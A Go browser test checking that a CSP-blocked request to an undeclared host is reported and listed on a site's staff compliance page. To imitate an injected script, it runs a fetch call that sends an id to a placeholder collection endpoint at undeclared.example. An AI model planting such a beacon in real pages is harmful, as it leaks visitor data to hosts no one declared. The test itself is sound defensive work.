package server_test

import (
	"context"
	"html"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"conpro/internal/browsertest"
)

// A page that tries to reach a host the cookie policy does not declare is
// stopped by a real browser, which reports it; staff see it on
// /admin/naleving. Over HTTPS, as the site runs: Chromium sends report-to
// reports only from secure pages (over plain HTTP it sends none, and
// ignores report-uri beside report-to).
func TestBrowser_AnUndeclaredHostAPageTriesShowsOnTheCompliancePage(t *testing.T) {
	s := newSite(t, siteOptions{tls: true})
	b := browsertest.New(t, browsertest.Options{ShortReportingDelay: true})
	b.Navigate(t, s.URL+"/privacy")
	// As a script that slipped into the page would.
	if _, err := chromedp.Run(b.Ctx, chromedp.Evaluate[int](`fetch("https://undeclared.example/collect?id=1").catch(() => 0), 1`)); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		var n int
		if err := s.db.Pool().QueryRow(context.Background(), `SELECT count(*) FROM csp_violation WHERE blocked = 'https://undeclared.example'`).Scan(&n); err != nil {
			t.Fatal(err)
		}
		if n > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no report arrived; the browser asked for %v", b.Requests())
		}
		time.Sleep(100 * time.Millisecond)
	}
	s.addStaff(t, "els@conpro-bvba.be", "een-lang-wachtwoord")
	staff := s.newClient(t)
	staff.client.Transport = s.transport
	staff.login(t, "els@conpro-bvba.be", "een-lang-wachtwoord")
	res := staff.do(t, http.MethodGet, "/admin/naleving", nil)
	page := html.UnescapeString(text(doc(t, res.Body)))
	if !strings.Contains(page, "https://undeclared.example") || !strings.Contains(page, "een verbinding") || !strings.Contains(page, "/privacy") {
		t.Fatalf("the compliance page does not show the report: %q", page)
	}
}
